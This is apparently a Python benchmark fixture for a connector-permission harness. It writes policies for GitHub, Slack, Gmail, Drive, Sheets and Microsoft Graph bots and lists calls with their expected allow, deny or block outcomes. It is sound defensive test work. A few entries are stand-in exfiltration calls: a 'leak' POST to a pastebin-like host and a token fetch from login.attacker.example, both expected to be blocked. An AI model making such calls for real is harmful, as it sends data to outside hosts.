"""The vendor-pack mix of bench/run.py: long flows over the bundled packs.

`write_workspace(root)` writes a workspace that names the Slack, GitHub, Gmail, Drive,
Sheets and Microsoft Graph packs (`harness/packs/`), with one `extends: slack` in its
mocks/ that narrows Slack messages to a channel (`resources:`), and four connectors
whose grants are narrowed or short of what some calls need. `VENDOR_MIX` is the calls,
in flow order, each with the outcome the vendor's documentation gives it:

- GitHub in both permission models: fine-grained `app` permissions for an issue bot, and
  classic `oauth` scopes for a release bot whose `public_repo` reaches only the
  repositories its flow was given as public (the conditional requirements of the pack);
- Slack (bot model) with `chat:write` narrowed to one channel;
- Gmail with `gmail.metadata` only (allowed without `q` and with `format=metadata`, denied
  with a search or the full message); Drive and Sheets with `drive.file` (allowed on the
  file the flow created, denied on another); Gmail and Drive share www.googleapis.com;
- Microsoft Graph in the `application` model (app-only permissions);
- calls to hosts outside a connector's `allowed_hosts` or not mocked at all (egress).
"""

from __future__ import annotations

from pathlib import Path

from harness.calls import Response
from harness.decisions import ALLOWED, BLOCKED, DENIED

GITHUB = "https://api.github.com"
SLACK = "https://slack.com/api"
GMAIL = "https://gmail.googleapis.com/gmail/v1/users/me"
GOOGLE = "https://www.googleapis.com"
SHEETS = "https://sheets.googleapis.com/v4/spreadsheets"
GRAPH = "https://graph.microsoft.com"

SETTINGS = "packs: [slack, github, gmail, google-drive, google-sheets, msgraph]\n"

# Slack lets an admin restrict where an app may post; the workspace says so for the
# bench's channel-narrowed grant (docs/workspace.md, "Resource narrowing").
SLACK_EXTENSION = """extends: slack
operations:
  - {id: chat.postMessage, resources: {channel: body.channel}}
  - {id: chat.update, resources: {channel: body.channel}}
  - {id: conversations.history, resources: {channel: query.channel}}
"""

POLICY = """connectors:
  - name: issue-bot
    owner: sre@example.com
    credential: {type: oauth2-refresh-token, lifetime: 1h, models: {github: app, slack: bot}}
    allowed_hosts: [api.github.com, slack.com]
  - name: release-bot
    owner: release@example.com
    credential: {type: oauth2-refresh-token, lifetime: 1h, models: {github: oauth}}
    allowed_hosts: [api.github.com]
  - name: mail-digest
    owner: ops@example.com
    credential: {type: oauth2-refresh-token, lifetime: 1h}
    allowed_hosts: [gmail.googleapis.com, www.googleapis.com, sheets.googleapis.com]
  - name: graph-sync
    owner: it@example.com
    credential: {type: oauth2-client-credentials, lifetime: 1h, models: {msgraph: application}}
    allowed_hosts: [graph.microsoft.com]
roles:
  - name: issue-bot
    grants:
      github: ["issues:write", "metadata:read", "contents:read"]
      slack: ["chat:write@channel=C0INCIDENTS", "channels:history@channel=C0INCIDENTS", "users:read"]
  - name: release-bot
    grants:
      github: [public_repo]
  - name: mail-digest
    grants:
      gmail: ["https://www.googleapis.com/auth/gmail.metadata"]
      google-drive: ["https://www.googleapis.com/auth/drive.file"]
      google-sheets: ["https://www.googleapis.com/auth/drive.file"]
  - name: graph-sync
    grants:
      msgraph: [Mail.Read, Files.Read.All, User.Read.All]
bindings:
  - {connector: issue-bot, env: prod, roles: [issue-bot]}
  - {connector: release-bot, env: prod, roles: [release-bot]}
  - {connector: mail-digest, env: prod, roles: [mail-digest]}
  - {connector: graph-sync, env: prod, roles: [graph-sync]}
flows:
  - name: triage
    connector: issue-bot
    steps:
      - request: {method: GET, url: "https://api.github.com/repos/acme/webapp/issues"}
  - name: release
    connector: release-bot
    given:
      github: {repository: {public: [acme/website]}}
    steps:
      - request: {method: GET, url: "https://api.github.com/repos/acme/website"}
  - name: digest
    connector: mail-digest
    steps:
      - request: {method: GET, url: "https://gmail.googleapis.com/gmail/v1/users/me/messages"}
  - name: sync
    connector: graph-sync
    steps:
      - request: {method: GET, url: "https://graph.microsoft.com/v1.0/users/ada@contoso.com/messages"}
"""


def write_workspace(root: Path) -> Path:
    (root / "mocks").mkdir(parents=True)
    (root / "scenarios").mkdir()
    (root / "connector-harness.yaml").write_text(SETTINGS, "utf-8")
    (root / "mocks" / "slack.yaml").write_text(SLACK_EXTENSION, "utf-8")
    (root / "scenarios" / "bench.yaml").write_text(POLICY, "utf-8")
    return root


CREATED = Response(200, {"id": "F-digest", "name": "digest", "mimeType": "text/csv"})
SHEET = Response(200, {"spreadsheetId": "F-digest", "properties": {"title": "digest"}})


def calls() -> list[tuple[str, str, str, str, object, Response | None, str]]:
    """(flow, binding, method, url, JSON body, recorded response, expected outcome)."""
    repo = f"{GITHUB}/repos/acme/webapp"
    site = f"{GITHUB}/repos/acme/website"
    issue = "triage", "issue-bot@prod"
    release = "release", "release-bot@prod"
    mail = "digest", "mail-digest@prod"
    graph = "sync", "graph-sync@prod"
    return [
        (*issue, "GET", f"{repo}/issues?state=open&labels=sev-1&per_page=50", None, None, ALLOWED),
        (*issue, "GET", f"{repo}/issues/42", None, None, ALLOWED),
        (*issue, "GET", f"{repo}/issues/42/comments?per_page=100", None, None, ALLOWED),
        (*issue, "POST", f"{repo}/issues/42/comments", {"body": "Triaged: sev-1"}, None, ALLOWED),
        (*issue, "PATCH", f"{repo}/issues/42", {"labels": ["sev-1", "triaged"]}, None, ALLOWED),
        (*issue, "GET", f"{repo}/contents/src/app/main.py?ref=main", None, None, ALLOWED),
        (*issue, "PUT", f"{repo}/contents/CHANGELOG.md", {"message": "x", "content": "eA=="},
         None, DENIED),  # no contents/single_file write
        (*issue, "GET", repo, None, None, ALLOWED),
        (*issue, "DELETE", repo, None, None, DENIED),  # administration:write
        (*issue, "GET", f"{repo}/pulls?state=open", None, None, DENIED),  # pull_requests:read
        (*issue, "POST", f"{SLACK}/chat.postMessage",
         {"channel": "C0INCIDENTS", "text": "sev-1: webapp#42"}, None, ALLOWED),
        (*issue, "POST", f"{SLACK}/chat.postMessage",
         {"channel": "C0GENERAL", "text": "sev-1: webapp#42"}, None, DENIED),  # narrowed
        (*issue, "GET", f"{SLACK}/conversations.history?channel=C0INCIDENTS&limit=20",
         None, None, ALLOWED),
        (*issue, "GET", f"{SLACK}/users.info?user=U0ADA", None, None, ALLOWED),
        (*issue, "POST", f"{SLACK}/chat.delete", {"channel": "C0INCIDENTS", "ts": "1.2"},
         None, DENIED),  # chat:write narrowed; chat.delete declares no channel
        (*issue, "GET", f"{SLACK}/conversations.list?types=private_channel", None, None,
         DENIED),  # groups:read
        (*issue, "POST", "https://hooks.pastebin.example/paste", {"text": "leak"}, None,
         BLOCKED),  # not mocked: egress
        (*release, "GET", site, None, None, ALLOWED),  # public: no scope needed
        (*release, "GET", f"{site}/issues?state=all", None, None, ALLOWED),  # public_repo
        (*release, "POST", f"{site}/issues", {"title": "Release 2.1"}, None, ALLOWED),
        (*release, "GET", f"{GITHUB}/repos/acme/internal", None, None, DENIED),  # private: repo
        (*release, "GET", f"{GITHUB}/repos/acme/internal/issues", None, None, DENIED),
        (*release, "PATCH", site, {"description": "Our site"}, None, ALLOWED),
        (*release, "GET", f"{site}/contents/docs/index.md", None, None, ALLOWED),
        (*release, "GET", f"{SLACK}/users.list", None, None, BLOCKED),  # slack.com not allowed
        (*mail, "GET", f"{GMAIL}/messages?maxResults=50", None, None, ALLOWED),  # no q
        (*mail, "GET", f"{GMAIL}/messages?q=from%3Aboss%40example.com", None, None, DENIED),
        (*mail, "GET", f"{GMAIL}/messages/18c2f?format=metadata&metadataHeaders=Subject",
         None, None, ALLOWED),
        (*mail, "GET", f"{GMAIL}/messages/18c2f", None, None, DENIED),  # format=full
        (*mail, "GET", f"{GMAIL}/threads?labelIds=INBOX", None, None, ALLOWED),
        (*mail, "GET", f"{GMAIL}/labels", None, None, ALLOWED),
        (*mail, "POST", f"{GMAIL}/messages/send", {"raw": "eA=="}, None, DENIED),
        (*mail, "POST", f"{GOOGLE}/drive/v3/files", {"name": "digest", "mimeType": "text/csv"},
         CREATED, ALLOWED),
        (*mail, "GET", f"{GOOGLE}/drive/v3/files/F-digest?fields=id,name", None, None, ALLOWED),
        (*mail, "GET", f"{GOOGLE}/drive/v3/files/F-budget", None, None, DENIED),  # not its file
        (*mail, "PATCH", f"{GOOGLE}/drive/v3/files/F-digest", {"name": "digest-2026"}, None,
         ALLOWED),
        (*mail, "GET", f"{GOOGLE}/gmail/v1/users/me/messages?maxResults=5", None, None,
         ALLOWED),  # Gmail on the host it shares with Drive
        (*mail, "GET", f"{SHEETS}/F-digest?includeGridData=false", None, SHEET, ALLOWED),
        (*mail, "POST", f"{SHEETS}/F-digest/values/Digest!A1:append?valueInputOption=RAW",
         {"values": [["2026-01-01", "42 messages"]]}, None, ALLOWED),
        (*mail, "GET", f"{SHEETS}/S-finance/values/Ledger!A1:F500", None, None, DENIED),
        (*mail, "GET", "https://api.dropbox.example/2/files/list_folder", None, None, BLOCKED),
        (*graph, "GET", f"{GRAPH}/v1.0/users/ada@contoso.com/messages?$top=25&$select=subject",
         None, None, ALLOWED),
        (*graph, "GET", f"{GRAPH}/v1.0/users/ada@contoso.com/mailFolders('Inbox')/messages",
         None, None, ALLOWED),
        (*graph, "POST", f"{GRAPH}/v1.0/users/ada@contoso.com/sendMail",
         {"message": {"subject": "x"}}, None, DENIED),  # Mail.Send
        (*graph, "GET", f"{GRAPH}/v1.0/users?$filter=accountEnabled%20eq%20true", None, None,
         ALLOWED),
        (*graph, "GET", f"{GRAPH}/v1.0/drives/b!Dr1/items/01ITEM/children", None, None, ALLOWED),
        (*graph, "GET", f"{GRAPH}/v1.0/sites/contoso.sharepoint.com,1,2/lists/L1/items", None,
         None, DENIED),  # Sites.Read.All
        (*graph, "DELETE", f"{GRAPH}/v1.0/users/ada@contoso.com", None, None, DENIED),
        (*graph, "GET", f"{GRAPH}/beta/users/ada@contoso.com/events", None, None, DENIED),
        (*graph, "GET", "https://login.attacker.example/token", None, None, BLOCKED),
    ]  # fmt: skip
